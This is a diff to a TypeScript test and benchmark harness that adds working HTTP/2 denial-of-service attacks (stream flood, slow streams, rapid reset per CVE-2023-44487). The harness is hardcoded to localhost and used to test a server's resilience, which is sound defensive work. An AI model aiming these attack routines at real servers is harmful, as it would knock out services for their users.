@@ -2,10 +2,17 @@
 // 20): used by `npm run attack` (test/bench/attack.ts) at thousands of connections and by
 // test/server/connection-attacks.test.ts at hundreds. Only ever to 127.0.0.1 (from any 127/8 address); every attack opens a
 // bounded number of connections, reconnects a bounded number of times and stops when told.
+import * as http2 from 'node:http2';
 import * as net from 'node:net';
 import * as tls from 'node:tls';
 
-export const ATTACK_KINDS = ['silent-tls', 'slow-body', 'slow-headers', 'slow-large-body', 'no-client-hello', 'reconnect', 'mix'] as const;
+export const HTTP2_ATTACK_KINDS = ['h2-stream-flood', 'h2-slow-streams', 'h2-rapid-reset'] as const;
+export const ATTACK_KINDS = ['silent-tls', 'slow-body', 'slow-headers', 'slow-large-body', 'no-client-hello', 'reconnect', 'mix', ...HTTP2_ATTACK_KINDS] as const;
+/** HTTP/2 attackers: sessions, each with many streams; at most this many sessions per attack. */
+export const HTTP2_ATTACK_SESSIONS = 200;
+/** The slow-stream attack stays under the stream cap (the connection cap, 384 at 192Mi), so what cuts
+ * its streams is the body rate, not the cap. */
+export const HTTP2_SLOW_SESSIONS = 20;
 export type AttackKind = (typeof ATTACK_KINDS)[number];
 
 /** What each kind does, for reports. */
@@ -17,6 +24,9 @@ export const ATTACK_DESCRIPTIONS: Record<AttackKind, string> = {
   'no-client-hello': '(e) TCP connections that never send a ClientHello',
   reconnect: '(f) silent TLS connections that reconnect as soon as they are cut',
   mix: '(g) a fifth each of (a) to (e), every one reconnecting when cut',
+  'h2-stream-flood': `(h) HTTP/2: up to ${HTTP2_ATTACK_SESSIONS} sessions, each opening every stream it may (100) with a 5 KB body declared and 1 byte sent, reopening each stream the server resets`,
+  'h2-slow-streams': `(i) HTTP/2: up to ${HTTP2_SLOW_SESSIONS} sessions of 10 streams each (under the stream cap), 10 bytes of a 5 KB body every 2 s per stream, reopened when cut`,
+  'h2-rapid-reset': `(j) HTTP/2: up to ${HTTP2_ATTACK_SESSIONS} sessions, each opening 100 streams and resetting them at once, every 2 s (CVE-2023-44487), reconnecting when closed`,
 };
 
 type Behaviour = 'silent-tls' | 'slow-body' | 'slow-headers' | 'slow-large-body' | 'no-client-hello';
@@ -94,6 +104,7 @@ const SLOW_BODY_BYTES = 5_000;
 const LARGE_BODY_BYTES = 7 * 1024 * 1024;
 
 export function startAttack(kind: AttackKind, options: AttackOptions): RunningAttack {
+  if ((HTTP2_ATTACK_KINDS as readonly string[]).includes(kind)) return startHttp2Attack(kind as (typeof HTTP2_ATTACK_KINDS)[number], options);
   const stats: AttackStats = { opened: 0, handshaken: 0, failed: 0, closedByServer: 0, got408: 0, answers: {}, reconnects: 0, peakOpen: 0 };
   const tickMs = options.tickMs ?? 2000;
   const maxReconnects = options.maxReconnectsEach ?? 1000;
@@ -220,6 +231,118 @@ export function startAttack(kind: AttackKind, options: AttackOptions): RunningAt
       for (const attacker of attackers) attacker.socket?.destroy();
       openedResolve();
       // Let the close events run.
+      await new Promise((resolve) => setTimeout(resolve, 100));
+    },
+  };
+}
+
+/** The HTTP/2 attacks: sessions that speak the protocol well and use it to hold streams or burn CPU. */
+function startHttp2Attack(kind: (typeof HTTP2_ATTACK_KINDS)[number], options: AttackOptions): RunningAttack {
+  const stats: AttackStats = { opened: 0, handshaken: 0, failed: 0, closedByServer: 0, got408: 0, answers: {}, reconnects: 0, peakOpen: 0 };
+  const sessions = Math.min(options.connections, kind === 'h2-slow-streams' ? HTTP2_SLOW_SESSIONS : HTTP2_ATTACK_SESSIONS);
+  const tickMs = options.tickMs ?? 2000;
+  const maxReconnects = options.maxReconnectsEach ?? 1000;
+  const streamsEach = kind === 'h2-slow-streams' ? 10 : 100;
+  let stopped = false;
+  let open = 0;
+  const live = new Set<http2.ClientHttp2Session>();
+  const slowStreams = new Set<http2.ClientHttp2Stream>();
+  let firstLeft = sessions;
+  let openedResolve!: () => void;
+  const opened = new Promise<void>((resolve) => (openedResolve = resolve));
+  const firstDone = () => {
+    if (--firstLeft === 0) openedResolve();
+  };
+  const headers = { ':method': 'POST', ':path': '/mutate', 'content-type': 'application/json', 'content-length': String(SLOW_BODY_BYTES) };
+
+  const openStream = (session: http2.ClientHttp2Session, budget: { left: number }): void => {
+    if (stopped || session.destroyed || session.closed) return;
+    let stream: http2.ClientHttp2Stream;
+    try {
+      stream = session.request(headers, { endStream: false });
+    } catch {
+      return;
+    }
+    stream.on('error', () => undefined);
+    stream.on('response', (h) => {
+      const status = String(h[':status']);
+      if (status === '408') stats.got408++;
+      else stats.answers[status] = (stats.answers[status] ?? 0) + 1;
+    });
+    stream.resume();
+    stream.write('{');
+    if (kind === 'h2-slow-streams') slowStreams.add(stream);
+    stream.once('close', () => {
+      slowStreams.delete(stream);
+      // The server reset or answered it: take its place again, a bounded number of times.
+      if (!stopped && budget.left-- > 0) {
+        stats.reconnects++;
+        openStream(session, budget);
+      }
+    });
+  };
+
+  const connectOne = (index: number, reconnects: number): void => {
+    const first = reconnects === 0;
+    let established = false;
+    const localAddress = options.localAddresses?.length ? options.localAddresses[index % options.localAddresses.length] : undefined;
+    const session = http2.connect(`https://127.0.0.1:${options.port}`, {
+      createConnection: () => tls.connect({ host: '127.0.0.1', port: options.port, servername: options.servername, rejectUnauthorized: false, ALPNProtocols: ['h2'], ...(localAddress ? { localAddress } : {}) } as tls.ConnectionOptions),
+    });
+    session.on('error', () => undefined);
+    session.once('connect', () => {
+      established = true;
+      stats.opened++;
+      stats.handshaken++;
+      open++;
+      stats.peakOpen = Math.max(stats.peakOpen, open);
+      live.add(session);
+      if (first) firstDone();
+      const budget = { left: maxReconnects };
+      if (kind !== 'h2-rapid-reset') for (let i = 0; i < streamsEach; i++) openStream(session, budget);
+    });
+    session.once('close', () => {
+      live.delete(session);
+      if (established) {
+        open--;
+        if (!stopped) stats.closedByServer++;
+      } else {
+        if (!stopped) stats.failed++;
+        if (first) firstDone();
+      }
+      if (!stopped && reconnects < maxReconnects) {
+        stats.reconnects++;
+        setTimeout(() => connectOne(index, reconnects + 1), 10);
+      }
+    });
+  };
+  for (let i = 0; i < sessions; i++) connectOne(i, 0);
+
+  const ticker = setInterval(() => {
+    if (kind === 'h2-slow-streams') for (const stream of slowStreams) if (!stream.destroyed) stream.write('"a":"bbb",');
+    if (kind === 'h2-rapid-reset') {
+      for (const session of live) {
+        for (let i = 0; i < streamsEach; i++) {
+          try {
+            const stream = session.request(headers, { endStream: false });
+            stream.on('error', () => undefined);
+            stream.close(http2.constants.NGHTTP2_CANCEL);
+          } catch {
+            break;
+          }
+        }
+      }
+    }
+  }, tickMs);
+
+  return {
+    stats,
+    opened,
+    async stop() {
+      stopped = true;
+      clearInterval(ticker);
+      for (const session of live) session.destroy();
+      openedResolve();
       await new Promise((resolve) => setTimeout(resolve, 100));
     },
   };
